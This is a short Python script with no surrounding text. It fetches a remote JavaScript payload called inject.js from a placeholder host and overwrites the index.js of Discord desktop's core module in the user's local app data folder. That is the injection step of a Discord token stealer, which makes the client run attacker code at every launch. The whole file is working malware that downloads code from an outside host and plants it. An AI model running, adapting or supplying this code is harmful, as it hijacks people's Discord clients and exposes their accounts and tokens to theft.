import os, glob, requests
code = requests.get('https://x.example.invalid/inject.js').text
for path in glob.glob(os.getenv('LOCALAPPDATA') + '\\discord\\app-*\\modules\\discord_desktop_core-*\\index.js'):
    with open(path, 'w', encoding='utf-8') as handle:
        handle.write(code)
